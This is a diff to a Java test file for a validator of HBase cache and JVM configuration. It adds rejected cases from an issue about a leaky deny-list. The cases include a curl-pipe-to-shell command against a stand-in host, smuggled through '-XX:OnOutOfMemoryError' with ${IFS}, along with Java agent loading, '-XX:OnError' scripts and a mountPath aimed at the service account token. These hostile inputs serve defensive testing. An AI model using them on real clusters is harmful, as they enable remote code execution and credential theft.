@@ -204,33 +204,98 @@ public final class BadPolicies {
               "-Xmx in extraOptions",
               "  mode: Lru\n  jvm:\n    extraOptions: [\"-Xmx8g\"]\n",
               "8Gi",
-              "jvm.extraOptions must not set -Xmx",
-              "jvm.extraOptions must not set -Xmx"),
+              "must not set what the planner sizes",
+              "sets what the planner sizes"),
           new Case(
               "two options in one extraOptions item",
               "  mode: Lru\n  jvm:\n    extraOptions: [\"-Dx=1 -Xmx64g\"]\n",
               "8Gi",
               "each jvm.extraOptions item must be one JVM option",
-              "each jvm.extraOptions item must be one JVM option"),
+              "must be one JVM option"),
           new Case(
               "extraOptions item not an option",
               "  mode: Lru\n  jvm:\n    extraOptions: [\"Xmx64g\"]\n",
               "8Gi",
               "each jvm.extraOptions item must be one JVM option",
-              "each jvm.extraOptions item must be one JVM option"),
+              "must be one JVM option"),
           // the API server cannot know whether the operator allows agents (its chart's value)
           new Case(
               "a Java agent in extraOptions",
               "  mode: Lru\n  jvm:\n    extraOptions: [\"-javaagent:/tmp/a.jar\"]\n",
               "8Gi",
               null,
-              "jvm.extraOptions must not load agents"),
+              "loads code into every RegionServer"),
           new Case(
               "boot class path in extraOptions",
               "  mode: Lru\n  jvm:\n    extraOptions: [\"-Xbootclasspath/a:/tmp/x.jar\"]\n",
               "8Gi",
               null,
-              "jvm.extraOptions must not load agents"),
+              "loads code into every RegionServer"),
+          // issue 25: what the old deny-list let through
+          new Case(
+              "-XX:OnOutOfMemoryError with ${IFS} for spaces",
+              "  mode: Lru\n  jvm:\n    extraOptions: [\"-XX:OnOutOfMemoryError=curl${IFS}evil|sh\"]\n",
+              "8Gi",
+              "must be one JVM option",
+              "must be one JVM option"),
+          new Case(
+              "-XX:OnError runs a command",
+              "  mode: Lru\n  jvm:\n    extraOptions: [\"-XX:OnError=/tmp/x.sh\"]\n",
+              "8Gi",
+              null,
+              "-XX:OnError is none of the collector, JIT, metaspace and thread flags"),
+          new Case(
+              "-XX:MaxHeapSize overrides the plan",
+              "  mode: Lru\n  jvm:\n    extraOptions: [\"-XX:MaxHeapSize=64g\"]\n",
+              "8Gi",
+              "must not set what the planner sizes",
+              "sets what the planner sizes"),
+          new Case(
+              "-Dsun.nio.MaxDirectMemorySize overrides the plan",
+              "  mode: Offheap\n  memory:\n    bucketCache: 1Gi\n  jvm:\n    extraOptions:"
+                  + " [\"-Dsun.nio.MaxDirectMemorySize=64g\"]\n",
+              "8Gi",
+              "must not set what the planner sizes",
+              "sets what the planner sizes"),
+          new Case(
+              "-Xlog to a file over the cache map",
+              "  mode: Lru\n  jvm:\n    extraOptions:"
+                  + " [\"-Xlog:gc:file=/var/lib/hbase/bucketcache/bucketcache.map\"]\n",
+              "8Gi",
+              null,
+              "-Xlog may log to stdout or stderr only"),
+          new Case(
+              "-XX:HeapDumpPath writes a file anywhere",
+              "  mode: Lru\n  jvm:\n    extraOptions: [\"-XX:HeapDumpPath=/var/lib/hbase/x\"]\n",
+              "8Gi",
+              null,
+              "-XX:HeapDumpPath is none of the collector"),
+          new Case(
+              "a JDK system property",
+              "  mode: Lru\n  jvm:\n    extraOptions: [\"-Dcom.sun.management.jmxremote.port=9010\"]\n",
+              "8Gi",
+              null,
+              "system properties of the JDK"),
+          new Case(
+              "options from a file",
+              "  mode: Lru\n  jvm:\n    extraOptions: [\"-XX:Flags=/tmp/flags\"]\n",
+              "8Gi",
+              null,
+              "-XX:Flags is none of the collector"),
+          new Case(
+              "mountPath with a comma",
+              "  mode: PersistentFile\n  memory:\n    bucketCache: 1Gi\n  storage:\n"
+                  + "    mountPath: /cache,/etc/hbase/conf\n",
+              "8Gi",
+              "storage.mountPath may hold letters, digits and _ . / - only",
+              "storage.mountPath may hold letters, digits and _ . / - only"),
+          new Case(
+              "mountPath under the service account token",
+              "  mode: File\n  memory:\n    bucketCache: 1Gi\n  storage:\n"
+                  + "    mountPath: /var/run/secrets/kubernetes.io\n",
+              "8Gi",
+              "storage.mountPath must not be or lie under a system directory",
+              "storage.mountPath must not be or lie under a system directory"),
           new Case(
               "unknown GC",
               "  mode: Lru\n  jvm:\n    gc: CMS\n",
